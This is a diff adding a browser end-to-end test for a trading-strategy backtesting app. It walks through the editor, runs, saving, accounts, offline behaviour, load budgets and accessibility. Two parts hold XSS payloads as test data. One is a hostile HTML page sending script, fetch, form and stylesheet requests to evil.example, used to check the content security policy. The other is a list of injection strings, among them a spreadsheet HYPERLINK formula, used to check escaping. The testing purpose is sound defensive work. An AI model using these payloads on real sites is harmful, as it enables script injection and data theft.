@@ -1,0 +1,483 @@
+// The whole way of a person through the application, against the real program with the demo market:
+// from an idea to a doubted, compared and saved result; what hostile texts do; what happens when the
+// server goes and comes; how much is loaded; whether everybody can use it.
+//
+//   node journey.mjs BINARY
+import { spawnSync } from 'node:child_process';
+import { cpSync, mkdtempSync, readFileSync, readdirSync, rmSync, writeFileSync } from 'node:fs';
+import { tmpdir } from 'node:os';
+import { join, resolve } from 'node:path';
+import { pathToFileURL } from 'node:url';
+import { gzipSync } from 'node:zlib';
+import { audit, check, desk, fault, faults, go, launch, open, phone } from './browser.mjs';
+import { fill } from './fixture.mjs';
+import { Server } from './server.mjs';
+
+const binary = resolve(process.argv[2]);
+const only = process.argv[3];
+const dist = resolve(new URL('../../frontend/dist', import.meta.url).pathname);
+const server = await new Server(binary).start();
+const ids = await fill(server);
+const browser = await launch();
+
+const parts = [];
+const part = (name, run) => parts.push([name, run]);
+
+const text = (page, selector) => page.locator(selector).first().textContent();
+const has = async (page, where, pattern, selector = 'main') => {
+  await page.waitForFunction(([s, p]) => new RegExp(p).test(document.querySelector(s)?.textContent ?? ''), [selector, pattern.source], { timeout: 30_000 }).catch(() => {});
+  const t = (await page.locator(selector).first().textContent().catch(() => '')) ?? '';
+  check(where, pattern.test(t), `${selector} has no ${pattern}: ${t.slice(0, 300)}`);
+};
+const editor = '.editor';
+const write = async (page, what) => {
+  await page.evaluate((s) => document.querySelector(s)?.shadowRoot?.querySelector('.cm-content')?.focus(), editor);
+  await page.keyboard.press('Control+End');
+  await page.keyboard.type(what);
+};
+
+part('idea to result', async (where) => {
+  const page = await open(browser, where, { origin: server.url });
+  const answer = await page.goto(`${server.url}/`);
+  const policy = answer.headers()['content-security-policy'] ?? '';
+  for (const want of ["script-src 'self'", "style-src 'self'", "require-trusted-types-for 'script'"]) check(where, policy.includes(want), `the policy has no ${want}: ${policy}`);
+  check(where, !policy.includes('unsafe'), `the policy has something unsafe: ${policy}`);
+  await page.getByRole('link', { name: /RSI dip in a rising market/ }).click();
+  await page.waitForSelector('.seeing canvas', { state: 'attached' });
+  await has(page, where, /Warm-up199 bars/, '.seeing');
+  await has(page, where, /made up by the demo market/, '.seeing');
+  // A fault is said with its place, completion offers words, and the layout is one.
+  await write(page, 'sise: 3\n');
+  await has(page, where, /unknown key "sise"/, '.faults');
+  check(where, await page.getByRole('button', { name: 'Run backtest' }).isDisabled(), 'a file with faults can be run');
+  for (let i = 0; i < 8; i++) await page.keyboard.press('Backspace');
+  await page.keyboard.type('acc');
+  await page.keyboard.press('Control+Space');
+  await page.waitForFunction(() => document.querySelector('.editor')?.shadowRoot?.querySelector('.cm-tooltip-autocomplete')?.textContent?.includes('account'), null, { timeout: 15_000 }).catch(() => fault(where, 'completion does not offer account'));
+  await page.keyboard.press('Escape');
+  for (let i = 0; i < 3; i++) await page.keyboard.press('Backspace');
+  await has(page, where, /No faults/, '.writing');
+  const hover = await page.evaluateHandle(() => [...(document.querySelector('.editor')?.shadowRoot?.querySelectorAll('.cm-line') ?? [])].find((l) => l.textContent?.startsWith('costs:')));
+  const box = await hover.asElement()?.boundingBox();
+  let hint = '';
+  for (let i = 0; i < 20 && !hint; i++) {
+    await page.mouse.move(box.x + 18 + (i % 5), box.y + 8);
+    await page.waitForTimeout(700);
+    hint = (await page.evaluate(() => document.querySelector('.editor')?.shadowRoot?.querySelector('.cm-hint')?.textContent)) ?? '';
+  }
+  check(where, /which bars are used|costs of trading/.test(hint), `hovering explains ${hint || 'nothing'}`);
+  await page.mouse.move(5, 5);
+  await page.getByRole('button', { name: 'Format' }).click();
+  await has(page, where, /Laid out/, '.toasts');
+  // The form and the text are one file.
+  await page.getByRole('radio', { name: 'Builder' }).check();
+  const boxes = page.locator('.builder section').nth(1).locator('input[aria-label$="target"]');
+  await boxes.first().fill('sma(close, 10)');
+  await boxes.first().press('Tab');
+  await page.getByRole('radio', { name: 'Text' }).check();
+  await page.waitForFunction(() => document.querySelector('.editor')?.shadowRoot?.textContent?.includes('exit: close > sma(close, 10)'), null, { timeout: 15_000 }).catch(() => fault(where, 'what the form changed is not in the text'));
+  check(where, await page.evaluate(() => document.querySelector('.editor')?.shadowRoot?.textContent?.includes('# source: L. Connors')), 'the form lost the comments');
+  // Run it and read the result.
+  await page.waitForFunction(() => !document.querySelector('.button.main')?.disabled);
+  await page.keyboard.press('Control+Enter');
+  await page.waitForURL(/#\/runs\/[0-9A-Z]{26}/);
+  await page.waitForSelector('.verdict', { timeout: 60_000 });
+  await has(page, where, /Do not act on this before it is explained/, '.verdict');
+  await page.waitForSelector('.uplot canvas', { state: 'attached' });
+  await has(page, where, /2024.*2023.*2022/, 'table.heat');
+  await page.getByRole('radio', { name: 'Trades' }).check();
+  await page.waitForSelector('.trading .canvas canvas', { state: 'attached' });
+  await page.locator('.trades .vrow:not(.vhead)').nth(2).click();
+  await has(page, where, /Decided at/, '.journal');
+  await page.keyboard.press('j');
+  check(where, (await text(page, '.vrow.chosen span')) === '4', 'the key j does not go to the next trade');
+  await page.getByRole('radio', { name: 'Metrics' }).check();
+  await page.locator('details.metric', { hasText: /^Sharpe ratio/ }).first().locator('summary').click();
+  await has(page, where, /higher is better/, 'details.metric[open]');
+  await page.getByRole('radio', { name: 'Settings' }).check();
+  await has(page, where, /Fingerprint[0-9a-f]{64}/);
+  await page.getByRole('radio', { name: 'Tearsheet' }).check();
+  const sheet = page.frameLocator('iframe.tearsheet');
+  await sheet.getByText('rsi-dip').first().waitFor();
+  await sheet.locator('svg[data-chart=equity]:visible').first().hover();
+  await sheet.locator('output[data-for=equity]:visible', { hasText: /\d{4}-\d\d-\d\d/ }).waitFor({ timeout: 10_000 }).catch(() => fault(where, 'the cross-hair of the tearsheet does not work: its script is blocked'));
+  const run = /[0-9A-Z]{26}/.exec(page.url())[0];
+  const a = await server.ask('GET', `/api/backtest/results/${run}`);
+  check(where, a.strategy === 'rsi-dip' && a.status === 'succeeded', `the server has ${a.strategy} ${a.status}`);
+  // A clone says only what was decided, and gives the same result.
+  await page.getByRole('link', { name: 'Clone with changes' }).click();
+  await page.waitForFunction(() => document.querySelector('.editor')?.shadowRoot?.textContent?.includes('sma(close, 10)'), null, { timeout: 30_000 }).catch(() => fault(where, 'the clone has not the settings of the run'));
+  const cloned = await page.evaluate(() => document.querySelector('.editor')?.shadowRoot?.querySelector('.cm-content')?.textContent ?? '');
+  check(where, !cloned.includes('limit_touch'), `the clone writes defaults: ${cloned}`);
+  await page.waitForFunction(() => !document.querySelector('.bench-head .button.main')?.disabled);
+  await page.getByRole('button', { name: 'Run backtest' }).click();
+  await page.waitForFunction((old) => /[0-9A-Z]{26}/.exec(location.hash)?.[0] !== old && document.querySelector('.verdict'), run);
+  const again = /[0-9A-Z]{26}/.exec(page.url())[0];
+  const b = await server.ask('GET', `/api/backtest/results/${again}`);
+  check(where, b.metrics.total_return === a.metrics.total_return, `the clone gave ${b.metrics.total_return}, the run ${a.metrics.total_return}`);
+  await page.context().close();
+});
+
+part('saving and versions', async (where) => {
+  const page = await open(browser, where, { origin: server.url, allow: [/404.*api\/strategies/] });
+  await page.goto(`${server.url}/#/edit`);
+  await page.waitForSelector('.editor');
+  await write(page, '# mine\n');
+  await page.waitForFunction(() => Object.values(localStorage).some((v) => /# mine(\n|\\n)/.test(v))); // slow machines keep the last letter a moment later
+  await page.reload();
+  await page.waitForFunction(() => document.querySelector('.editor')?.shadowRoot?.textContent?.includes('# mine'), null, { timeout: 30_000 }).catch(() => fault(where, 'a draft is lost when the page is loaded again'));
+  await page.getByRole('button', { name: 'Save', exact: true }).click();
+  const name = page.getByLabel('Name');
+  await name.fill('kept idea');
+  await page.getByRole('dialog').getByRole('button', { name: 'Save' }).click();
+  await page.waitForURL(/#\/edit\/kept/);
+  await page.waitForFunction(() => document.querySelector('.editor')?.shadowRoot?.textContent?.includes('# mine'));
+  await write(page, '# more\n');
+  await page.keyboard.press('Control+s');
+  await has(page, where, /\+ # more/, '.difference');
+  await page.getByRole('dialog').getByRole('button', { name: 'Save' }).click();
+  await page.waitForSelector('dialog', { state: 'detached' });
+  const saved = await server.ask('GET', '/api/strategies/kept%20idea');
+  check(where, saved.version === 2 && saved.text.endsWith('# mine\n# more\n'), `the server has version ${saved.version}: ${saved.text}`);
+  await page.context().close();
+});
+
+// Texts that would do something if they were taken for code.
+part('a validation', async (where) => {
+  const id = (await server.ask('POST', '/api/backtest/run', { kind: 'validate', strategy: { name: 'doubted', universe: { symbols: ['ACME'] }, data: { from: '2019-01-01' }, params: { n: [5, 10, 20] },
+    entry: 'close > sma(close, n)', exit: 'close < sma(close, n)', search: { min_trades: 5 }, validate: { walk_forward: { train: '2y', test: '1y' }, pbo: 8, draws: 99, noise: 2 } } })).run_id;
+  const page = await open(browser, where, { origin: server.url });
+  await page.goto(`${server.url}/#/runs/${id}`);
+  const sheet = page.frameLocator('iframe.tearsheet');
+  await sheet.getByText(/Walk-forward/).first().waitFor({ timeout: 120_000 });
+  await sheet.locator('h1', { hasText: 'doubted' }).waitFor();
+  await page.context().close();
+});
+
+// A tearsheet runs the one script of this program, in an origin of its own, and no other one, whatever
+// is in the file.
+part('tearsheets', async (where) => {
+  const id = ids.all[0];
+  const address = `${server.url}/api/files/tearsheet/${id}.html`;
+  const file = join(server.folder, 'results', 'tearsheets', `${id}.html`);
+  const whole = readFileSync(file, 'utf8');
+  const page = await open(browser, where, { origin: server.url });
+  await page.goto(address);
+  await page.locator('svg[data-chart=equity]:visible').first().hover();
+  await page.locator('output[data-for=equity]:visible', { hasText: /\d{4}-\d\d-\d\d/ }).waitFor({ timeout: 10_000 }).catch(() => fault(where, 'the cross-hair does not work: the script is blocked'));
+  check(where, (await page.evaluate(() => globalThis.origin)) === 'null', 'a tearsheet has the origin of the application');
+  await page.context().close();
+  // A file that was changed is none: its sum is not the one that the run wrote down.
+  const other = Buffer.from(whole);
+  other.write('<script>document.title="EVIL"</script>', other.indexOf('<header>'));
+  writeFileSync(file, other);
+  const refused = await fetch(address);
+  writeFileSync(file, whole);
+  check(where, refused.status === 500 && (await refused.json()).code === 'artifact-damaged', `a changed tearsheet is answered ${refused.status}`);
+  // And were a hostile text ever within one, the policy keeps it from doing anything. (Leading elsewhere by
+  // a refresh is what browsers allow whoever may run a script; that is left to the sum.)
+  const policy = (await fetch(address)).headers.get('content-security-policy');
+  const evil = `<!doctype html><title>t</title><script>document.title='EVIL'</script><img src=x onerror="document.title='EVIL'"><svg onload="document.title='EVIL'"></svg>`
+    + `<iframe srcdoc="<script>top.document.title='EVIL'</script><img src=//evil.example/framed>"></iframe><link rel=stylesheet href=//evil.example/a.css><img src=//evil.example/a.png>`
+    + `<style>@import url(//evil.example/b.css); body{background:url(//evil.example/b.png)}</style><object data=//evil.example/o></object>`
+    + `<form id=f action=//evil.example/form><input name=a></form><script>fetch('//evil.example/fetch');f.submit()</script><base href=//evil.example/>`;
+  const reached = async (headers) => {
+    const hurt = await open(browser, where, { allow: [/.*/] });
+    const seen = [];
+    await hurt.route(/evil\.example/, (r) => { seen.push(r.request().url()); return r.abort(); }); // what the policy blocks does not come here
+    await hurt.route('**/hostile.html', (r) => r.fulfill({ contentType: 'text/html', headers, body: evil }));
+    await hurt.goto(`${server.url}/hostile.html`).catch(() => {});
+    await hurt.waitForTimeout(1500);
+    if (/EVIL/.test(await hurt.title().catch(() => ''))) seen.push('a script ran');
+    await hurt.context().close();
+    return seen;
+  };
+  const leaked = await reached({ 'Content-Security-Policy': policy });
+  check(where, leaked.length === 0, `a hostile tearsheet reaches ${leaked}`);
+  const control = await reached({});
+  check(where, control.length >= 6, `without a policy the hostile file reaches only ${control}: it proves little`);
+});
+
+const hostile = [
+  '<img src=x onerror=alert(1)>', '"><script>alert(2)</script>', "javascript:alert(3)//'", '<svg onload=alert(4)>', '{{constructor.constructor("alert(5)")()}}', '\u202egnp.exe', '<iframe srcdoc="<script>alert(6)</script>">',
+  '${alert(7)}', '<a href="javascript:alert(8)">x</a>', '=HYPERLINK("http://evil.example")',
+];
+
+part('hostile names and notes', async (where) => {
+  const page = await open(browser, where, { origin: server.url, allow: [/404/] });
+  let i = 0;
+  for (const h of hostile) {
+    const id = ids.all[i++ % ids.all.length];
+    await server.ask('PATCH', `/api/backtest/runs/${id}`, { name: h.replaceAll('\u202e', ''), notes: h, tags: [h.replace(/[,\u202e]/g, '').slice(0, 40)] }).catch((e) => console.log(`   refused by the server: ${e.message.slice(0, 120)}`));
+    for (const hash of [`#/runs/${id}`, '#/runs', '#/strategies', `#/compare?ids=${ids.all.slice(0, 3).join(',')}`, `#/runs?q=${encodeURIComponent(h)}`, `#/data/${encodeURIComponent(h)}`, `#/edit?from=${encodeURIComponent(h)}`]) {
+      if (/data|edit/.test(hash) && i > 3) continue;
+      await go(page, hash).catch(() => page.goto(`${server.url}/${hash}`));
+      await page.goto(`${server.url}/${hash}`);
+      await page.waitForTimeout(120);
+    }
+  }
+  await page.goto(`${server.url}/#/runs/${ids.all[0]}`);
+  await page.waitForSelector('h1');
+  check(where, (await page.locator('main img, main iframe:not(.tearsheet), main script').count()) === 0, 'a text became an element');
+  await server.ask('PATCH', `/api/backtest/runs/${ids.all[0]}`, { name: 'First try of the dip', notes: '', tags: ['dip'] });
+  await page.context().close();
+});
+
+part('history and comparison', async (where) => {
+  const page = await open(browser, where, { origin: server.url });
+  await page.goto(`${server.url}/#/runs`);
+  await page.waitForSelector('.rrow a');
+  await page.getByRole('searchbox', { name: 'Search runs' }).fill('golden');
+  await page.waitForFunction(() => document.querySelectorAll('.rrow a').length === 1).catch(() => fault(where, 'the search for golden does not find one run'));
+  await page.getByRole('searchbox', { name: 'Search runs' }).fill('');
+  await page.waitForFunction(() => document.querySelectorAll('.rrow a').length > 3);
+  const star = page.getByRole('button', { name: /^Star / }).first();
+  const was = await star.getAttribute('aria-pressed');
+  await star.click();
+  await page.waitForFunction((w) => document.querySelector('.rrow .star')?.getAttribute('aria-pressed') !== w, was).catch(() => fault(where, 'a star cannot be set'));
+  for (const i of [0, 1, 2]) await page.locator('.rrow input[type=checkbox]:enabled').nth(i).check(); // only runs have curves to compare
+  await page.getByRole('link', { name: 'Compare 3' }).click();
+  await page.waitForSelector('table.compare');
+  check(where, (await page.locator('table.compare').first().locator('thead th').count()) === 4, 'not three runs are compared');
+  await page.waitForSelector('.uplot canvas', { state: 'attached' });
+  await page.context().close();
+});
+
+part('progress, restart and cancel', async (where) => {
+  const page = await open(browser, where, { allow: [/Failed to load resource/, /ERR_/] });
+  // Every symbol by the minute, with indicators: long enough to be interrupted.
+  const slow = { strategy: 'name: slow\ndata: {bars: 1m}\nentry: close > sma(close, 50) and rsi(close, 14) < 60\nexit: close < sma(close, 20)\n', symbols: (await server.ask('GET', '/api/data/tickers?timeframe=1m&limit=100')).tickers };
+  const started = [];
+  for (let i = 0; i < 6; i++) started.push((await server.ask('POST', '/api/backtest/run', { ...slow, set: { cash: 100000 + i } })).run_id);
+  const last = started.at(-1);
+  await page.goto(`${server.url}/#/runs/${last}`);
+  await page.waitForSelector('h1');
+  const before = await text(page, 'main');
+  await server.stop();
+  await page.waitForTimeout(1500);
+  await server.start();
+  await page.waitForSelector('.verdict, .empty', { timeout: 120_000 }).catch(async () => fault(where, `the page does not pick the run up after a restart: ${(await text(page, 'main')).slice(0, 200)} (before: ${before.slice(0, 100)})`));
+  for (const id of started) {
+    const r = await server.ask('GET', `/api/backtest/results/${id}?wait=30`);
+    check(where, r.status === 'succeeded', `after a restart run ${id} is ${r.status}`);
+  }
+  await page.context().close();
+});
+
+part('opened as a file', async (where) => {
+  const folder = mkdtempSync(join(tmpdir(), 'frontend-file-'));
+  cpSync(dist, folder, { recursive: true });
+  writeFileSync(join(folder, 'config.js'), `window.BACKTESTER_CONFIG = { apiBase: "http://localhost:${server.port}" };\n`);
+  const page = await open(browser, where, { origin: '' });
+  await page.goto(pathToFileURL(join(folder, 'index.html')).href);
+  await page.waitForSelector('.idea');
+  await go(page, '#/edit?from=golden-cross');
+  await page.waitForSelector('.seeing canvas', { state: 'attached' });
+  await page.waitForFunction(() => !document.querySelector('.bench-head .button.main')?.disabled);
+  await page.getByRole('button', { name: 'Run backtest' }).click();
+  await page.waitForSelector('.verdict', { timeout: 60_000 });
+  await page.context().close();
+  rmSync(folder, { recursive: true });
+});
+
+part('without a network', async (where) => {
+  const page = await open(browser, where, { allow: [/ERR_|Failed to load/] });
+  await page.goto(`${server.url}/#/edit?from=golden-cross`);
+  await page.waitForSelector('.seeing canvas', { state: 'attached' });
+  await page.context().setOffline(true);
+  await write(page, '# offline\n');
+  await has(page, where, /cannot be reached/, '#app');
+  await page.context().setOffline(false);
+  await page.getByRole('button', { name: 'Try again' }).first().click();
+  await page.waitForFunction(() => !document.querySelector('.top + .banner')).catch(() => fault(where, 'the banner stays when the server is back'));
+  check(where, await page.evaluate(() => document.querySelector('.editor')?.shadowRoot?.textContent?.includes('# offline')), 'what was written offline is lost');
+  await page.context().close();
+});
+
+part('budgets', async (where) => {
+  const page = await open(browser, where, { origin: server.url });
+  const loaded = [];
+  page.on('response', (r) => { if (r.url().endsWith('.js')) loaded.push(new URL(r.url()).pathname.slice(1)); });
+  await page.goto(`${server.url}/`);
+  await page.waitForSelector('.idea');
+  const size = (names) => names.reduce((n, f) => n + gzipSync(readFileSync(join(dist, f))).length, 0) / 1000;
+  const first = size(loaded);
+  const paint = await page.evaluate(() => performance.getEntriesByName('first-contentful-paint')[0]?.startTime ?? -1);
+  console.log(`   first view: ${first.toFixed(0)} kB of scripts (gzip) in ${loaded.length} files, first paint after ${paint.toFixed(0)} ms`);
+  check(where, first <= 200, `the first view loads ${first.toFixed(0)} kB of scripts`);
+  loaded.length = 0;
+  const editing = await open(browser, where, { origin: server.url });
+  editing.on('response', (r) => { if (r.url().endsWith('.js')) loaded.push(new URL(r.url()).pathname.slice(1)); });
+  await editing.goto(`${server.url}/#/edit?from=golden-cross`);
+  await editing.waitForFunction(() => document.querySelector('.editor')?.shadowRoot?.querySelector('.cm-content'));
+  const write = size(loaded.filter((f) => !f.includes('prices')));
+  console.log(`   editor: ${write.toFixed(0)} kB before the chart, ${size(loaded).toFixed(0)} kB with it`);
+  check(where, write <= 200, `the editor loads ${write.toFixed(0)} kB of scripts before the chart`);
+  for (const f of readdirSync(join(dist, 'modules'))) check(where, /^[a-z]+-[\w-]{8}\.js$/.test(f), `modules/${f} has no hash`);
+  await page.context().close();
+  await editing.context().close();
+});
+
+part('accounts', async (where) => {
+  const own = await new Server(binary, { args: ['--auth', 'required'] }).start();
+  const allow = [/401/, /403/, /422/, /429/];
+  const page = await open(browser, where, { origin: own.url, allow });
+  await page.goto(`${own.url}/`);
+  await page.getByRole('radio', { name: 'New account' }).check();
+  await page.getByRole('button', { name: 'I have an invitation' }).waitFor(); // nobody has an account yet: the form asks for the token
+  await audit(page, `${where}, sign in`);
+  await page.getByLabel('Name').fill('alice');
+  await page.getByLabel('Password').fill('short');
+  await has(page, where, /At least 12 characters/, '.sign-in');
+  await page.getByLabel('Password').fill('a harbour of quiet boats');
+  await page.getByLabel('Setup token').fill('nothing like it');
+  await page.getByRole('button', { name: 'Make the account' }).click();
+  await page.waitForSelector('.trouble');
+  await page.getByLabel('Setup token').fill(readFileSync(join(own.folder, 'results/db/setup-token'), 'utf8').trim());
+  await page.getByRole('button', { name: 'Make the account' }).click();
+  await page.waitForSelector('.idea');
+  check(where, (await page.evaluate(() => document.cookie)) === '' || !/bt_session/.test(await page.evaluate(() => document.cookie)), 'a script can read the session');
+  // A token for scripts works until it is revoked.
+  await page.goto(`${own.url}/#/account`);
+  await page.getByLabel('Name', { exact: true }).fill('notebook');
+  await page.getByRole('button', { name: 'Make a token' }).click();
+  const token = (await page.locator('.secret code').first().textContent()) ?? '';
+  check(where, /^btp_/.test(token), `a personal token is ${token.slice(0, 8)}`);
+  const bearer = { Authorization: `Bearer ${token}` };
+  check(where, (await own.ask('GET', '/api/auth/verify', undefined, bearer)).user.username === 'alice', 'the token is not alice');
+  await audit(page, `${where}, account`);
+  await page.getByRole('button', { name: 'Revoke' }).click();
+  await page.waitForFunction(() => !document.querySelector('.rows li'));
+  check(where, await own.ask('GET', '/api/auth/verify', undefined, bearer).then(() => false, () => true), 'a revoked token still works');
+  // The session ends while something is being written: it is kept, and comes back after signing in.
+  await page.goto(`${own.url}/#/edit?from=golden-cross`);
+  await page.waitForSelector('.seeing canvas', { state: 'attached' });
+  const elsewhere = await own.ask('POST', '/api/auth/login', { username: 'alice', password: 'a harbour of quiet boats', mode: 'token' });
+  await own.ask('POST', '/api/auth/logout-all', {}, { Authorization: `Bearer ${elsewhere.token}` }).catch(() => fetch(`${own.url}/api/auth/logout-all`, { method: 'POST', headers: { Authorization: `Bearer ${elsewhere.token}` } }));
+  await write(page, '# written when the session was over\n');
+  await page.getByRole('heading', { name: 'Sign in again' }).waitFor();
+  await page.getByLabel('Name').fill('alice');
+  await page.getByLabel('Password').fill('a wrong one of twelve');
+  await page.getByRole('button', { name: 'Sign in', exact: true }).click();
+  await has(page, where, /name or the password is not right/, '.sign-in');
+  await page.getByLabel('Password').fill('a harbour of quiet boats');
+  await page.getByRole('button', { name: 'Sign in', exact: true }).click();
+  await page.waitForFunction(() => !document.querySelector('.sign-in'));
+  check(where, await page.evaluate(() => document.querySelector('.editor')?.shadowRoot?.textContent?.includes('# written when the session was over')), 'what was written is lost');
+  await page.goto(`${own.url}/#/account`);
+  await page.getByRole('button', { name: 'Sign out everywhere' }).click();
+  await page.getByRole('heading', { name: 'Sign in', exact: true }).waitFor();
+  await page.context().close();
+  await own.end();
+});
+
+// A made-up walk by the minute, as the CSV that data import takes.
+function minutes(n) {
+  const rows = ['time,open,high,low,close,volume'];
+  let x = 50;
+  let seed = 7;
+  const random = () => { seed = (seed * 16807) % 2147483647; return seed / 2147483647; };
+  for (let day = Date.UTC(2011, 0, 3), made = 0; made < n; day += 86_400_000) {
+    const week = new Date(day).getUTCDay();
+    if (week === 0 || week === 6) continue;
+    for (let m = 0; m < 330 && made < n; m++, made++) { // 14:30 to 20:00 UTC lies in the regular session all year
+      const open = x;
+      x = Math.max(1, x * (1 + (random() - 0.4999) * 0.002));
+      rows.push(`${new Date(day + (14 * 60 + 30 + m) * 60_000).toISOString().slice(0, 19)}Z,${open.toFixed(3)},${(Math.max(open, x) * 1.0004).toFixed(3)},${(Math.min(open, x) * 0.9996).toFixed(3)},${x.toFixed(3)},${100 + Math.floor(random() * 900)}`);
+    }
+  }
+  return rows.join('\n');
+}
+
+part('a million bars', async (where) => {
+  const own = new Server(binary);
+  const file = join(own.folder, 'WALK.csv');
+  writeFileSync(file, minutes(1_100_000));
+  const env = { PATH: process.env.PATH, HOME: own.folder, BACKTESTER_DATA_DIR: join(own.folder, 'data') };
+  const out = spawnSync(binary, ['data', 'import', file, '--env-file', 'none'], { env, encoding: 'utf8' });
+  if (out.status !== 0) return fault(where, `data import ended with ${out.status}: ${out.stderr.slice(0, 600)}`);
+  own.args = ['--store', 'imported'];
+  await own.start();
+  const asked = Date.now();
+  const got = await own.ask('GET', '/api/data/bars/WALK?timeframe=1m&points=20000');
+  console.log(`   ${got.data.t.length} of ${got.points_total} bars from the server in ${Date.now() - asked} ms`);
+  check(where, got.points_total >= 1_000_000 && got.data.t.length <= 20_000, `${got.data.t.length} of ${got.points_total} bars came`);
+  const page = await open(browser, where, { origin: own.url });
+  await page.goto(`${own.url}/#/data`);
+  await page.waitForSelector('.srow');
+  await page.goto(`${own.url}/#/data/WALK?frame=1m`);
+  const began = Date.now();
+  await page.waitForSelector('.canvas canvas', { state: 'attached' });
+  const drawn = Date.now() - began;
+  // Pan as a hand does, and look at how long the page was busy in every frame.
+  const box = await page.locator('.canvas').boundingBox();
+  await page.waitForTimeout(500);
+  const requests = [];
+  page.on('request', (r) => { if (r.url().includes('/bars/')) requests.push(new URL(r.url()).search); });
+  const busy = await frames(page, async () => {
+    await page.mouse.move(box.x + box.width * 0.7, box.y + 100);
+    await page.mouse.down();
+    for (let i = 0; i < 60; i++) await page.mouse.move(box.x + box.width * 0.7 - i * 4, box.y + 100 + (i % 3));
+    await page.mouse.up();
+  });
+  for (let i = 0; i < 45; i++) {
+    await page.mouse.move(box.x + box.width / 2, box.y + 100);
+    await page.mouse.wheel(0, -400);
+    await page.waitForTimeout(20);
+  }
+  await page.waitForTimeout(2500);
+  check(where, requests.some((q) => q.includes('from=')), 'zooming in does not ask for the part that is looked at');
+  await has(page, where, /candles for|bars/);
+  console.log(`   drawn after ${drawn} ms; processor time in a frame of panning: median ${busy.median.toFixed(1)} ms, 95 % below ${busy.p95.toFixed(1)} ms (${busy.count} frames); then ${requests.length} requests, the last ${requests.at(-1)}`);
+  await page.context().close();
+  await own.end();
+});
+
+// frames traces what the main thread does between frames while something happens.
+async function frames(page, act) {
+  const client = await page.context().newCDPSession(page);
+  const events = [];
+  client.on('Tracing.dataCollected', (e) => events.push(...e.value));
+  await client.send('Tracing.start', { transferMode: 'ReportEvents', traceConfig: { includedCategories: ['devtools.timeline', 'disabled-by-default-devtools.timeline', 'toplevel'] } });
+  await act();
+  const done = new Promise((r) => client.once('Tracing.tracingComplete', r));
+  await client.send('Tracing.end');
+  await done;
+  // The work of a frame: the tasks of the page's main thread that lie between two of its animation frames.
+  const fires = events.filter((e) => e.name === 'FireAnimationFrame');
+  const thread = fires[0]?.tid;
+  const name = events.some((e) => e.name === 'RunTask') ? 'RunTask' : 'ThreadControllerImpl::RunTask';
+  const tasks = events.filter((e) => e.tid === thread && e.name === name && e.dur).sort((a, b) => a.ts - b.ts);
+  const times = fires.filter((e) => e.tid === thread).map((e) => e.ts).sort((a, b) => a - b);
+  const work = times.slice(1).map((t, i) => tasks.filter((x) => x.ts >= times[i] - 1 && x.ts < t).reduce((n, x) => n + (x.tdur ?? x.dur), 0) / 1000).sort((a, b) => a - b);
+  if (tasks.some((x) => x.tdur === undefined)) console.log('   (times are of the clock: the browser does not tell processor time)');
+  return { count: work.length, median: work[Math.floor(work.length / 2)] ?? -1, p95: work[Math.floor(work.length * 0.95)] ?? -1 };
+}
+
+part('everybody', async (where) => {
+  const symbols = '#/data/SPLIT';
+  for (const [label, viewport, scheme] of [['desk light', desk, 'light'], ['phone dark', phone, 'dark']]) {
+    const page = await open(browser, `${where}, ${label}`, { viewport, scheme, origin: server.url });
+    for (const [hash, ready] of [['#/strategies', '.idea'], ['#/edit?from=pullback', '.editor'], [`#/runs/${ids.run}`, '.uplot'], [`#/runs/${ids.run}?tab=trades`, '.vrow'], [`#/runs/${ids.run}?tab=metrics`, '.metric'], [`#/runs/${ids.run}?tab=settings`, '.facts'], ['#/runs', '.rrow a'], [`#/compare?ids=${ids.all.slice(0, 3).join(',')}`, '.compare'], ['#/data', '.srow'], [symbols, '.canvas'], ['#/reference', '.entry'], ['#/account', '.empty']]) {
+      await page.goto(`${server.url}/${hash}`);
+      await page.waitForSelector(ready, { state: 'attached' });
+      await page.waitForTimeout(300);
+      await audit(page, `${where}, ${label}, ${hash}`);
+    }
+    await page.context().close();
+  }
+});
+
+for (const [name, run] of parts) {
+  if (only && !name.includes(only)) continue;
+  console.log(`== ${name}`);
+  try {
+    await run(name);
+  } catch (e) {
+    fault(name, e.stack ?? e.message);
+  }
+}
+await browser.close();
+await server.end();
+console.log(faults.length === 0 ? 'the whole way: no fault' : `${faults.length} faults`);
+process.exit(faults.length === 0 ? 0 : 1);
